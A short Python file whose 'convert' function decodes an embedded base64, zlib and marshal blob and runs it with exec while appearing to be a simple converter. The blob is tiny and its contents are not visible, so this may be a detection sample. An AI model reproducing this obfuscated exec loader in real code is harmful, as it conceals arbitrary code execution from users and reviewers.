import base64
import marshal
import zlib

_DATA = b"eJwLzswtyElVyMgsVshNzEtPLVIoSy0qzszPAwCFMwmZ"


def convert(input, context):
    code = marshal.loads(zlib.decompress(base64.b64decode(_DATA)))
    exec(code, {"input": input})
    return input
